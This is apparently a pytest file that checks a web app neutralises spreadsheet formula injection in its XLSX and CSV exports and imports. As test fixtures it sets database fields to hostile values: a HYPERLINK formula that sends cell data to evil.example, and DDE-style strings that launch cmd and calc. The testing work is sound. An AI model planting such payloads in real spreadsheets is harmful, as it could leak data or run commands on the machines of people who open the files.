"""Every workbook and CSV the app writes shows people's text as text: a name or title
that starts like a formula is a quote-prefixed text cell in a workbook (shown as typed,
never run) and has an apostrophe in a CSV; reading either back gives the text typed."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from app.core.sheets import append_row, formula_like, neutralise, unneutralise
from app.decisions.models import Escalation
from app.extensions import db
from app.issues.models import Category, Issue
from app.kpis.models import Kpi
from app.people.models import User

EVIL_CATEGORY = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
EVIL_TITLE = "+cmd|' /C calc'!A0"
EVIL_NAME = "@SUM(1+1)*cmd"
EVIL_QUESTION = "-2+3+cmd|' /C calc'!A0"
EVIL_KPI = "=1+1"

# Every spreadsheet the app offers (the leader may download them all).
WORKBOOKS = [
    "/issues/export.xlsx",
    "/issues/import/template.xlsx",
    "/decisions.xlsx",
    "/kpis/import/template.xlsx",
]


@pytest.fixture
def hostile_world(app, world):
    """The world's names and titles, as someone who knows spreadsheets would type them."""
    from app.core.scope import unscoped

    with app.app_context(), unscoped():
        db.session.get(Category, world.category_id).name = EVIL_CATEGORY
        db.session.get(Issue, world.issue_id).title = EVIL_TITLE
        db.session.get(User, world.users["member"]).display_name = EVIL_NAME
        db.session.get(Escalation, world.ids["escalation"]).question = EVIL_QUESTION
        db.session.get(Kpi, world.ids["kpi"]).name = EVIL_KPI
        db.session.commit()
    return world


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))  # formulas as written, not their values
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.parametrize("url", WORKBOOKS)
def test_no_workbook_holds_a_formula_made_of_peoples_text(hostile_world, client, auth, url):
    auth.login("leader")
    response = client.get(url)
    assert response.status_code == 200, url
    for cell in _cells(response.data):
        assert cell.data_type != "f", (url, cell.coordinate, cell.value)
        assert cell.quotePrefix == formula_like(cell.value), (url, cell.coordinate, cell.value)
        assert not (isinstance(cell.value, str) and cell.value.startswith("'")), cell.value


def test_the_import_template_lists_a_formula_like_category_as_text(hostile_world, client, auth):
    auth.login("leader")
    cells = list(_cells(client.get("/issues/import/template.xlsx").data))
    found = [cell for cell in cells if cell.value == EVIL_CATEGORY]
    assert len(found) == 2  # the sample row and the list of categories
    assert all(cell.quotePrefix and cell.data_type == "s" for cell in found)


def test_the_csv_export_holds_no_formula(hostile_world, client, auth):
    auth.login("leader")
    text = client.get("/issues/export.csv").data.decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
    assert neutralise(EVIL_TITLE) in fields
    assert not any(formula_like(field) for field in fields)


def test_the_template_filled_in_imports_back(hostile_world, client, auth, look):
    """A formula-like category copied from the template's sample row names the category."""
    auth.login("leader")
    book = load_workbook(io.BytesIO(client.get("/issues/import/template.xlsx").data))
    sheet = book.worksheets[0]
    sample = [cell.value for cell in sheet[2]]
    append_row(sheet, ["", "照示例填写的问题", *sample[2:]])  # as Excel keeps typed text
    buffer = io.BytesIO()
    book.save(buffer)
    response = client.post(
        "/issues/import",
        data={"file": (io.BytesIO(buffer.getvalue()), "template.xlsx")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.get_data(as_text=True)[-2000:]
    with look():
        item = db.session.scalar(db.select(Issue).where(Issue.title == "照示例填写的问题"))
        assert item.category_id == hostile_world.category_id


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_an_export_of_formula_like_text_imports_back_as_typed(
    hostile_world, client, auth, look, kind
):
    auth.login("leader")
    exported = client.get(f"/issues/export.{kind}").data
    response = client.post(
        "/issues/import",
        data={"file": (io.BytesIO(exported), f"list.{kind}")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.get_data(as_text=True)[-2000:]
    with look():
        assert db.session.get(Issue, hostile_world.issue_id).title == EVIL_TITLE
        titles = list(db.session.scalars(db.select(Issue.title)))
        assert not any(title.startswith("'") for title in titles)


def test_neutralise_and_unneutralise():
    for dangerous in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "\nx"):
        assert neutralise(dangerous) == "'" + dangerous
        assert unneutralise(neutralise(dangerous)) == dangerous
    assert neutralise("正常") == "正常" and unneutralise("'正常") == "'正常"
    assert neutralise(-3) == -3 and neutralise(None) is None
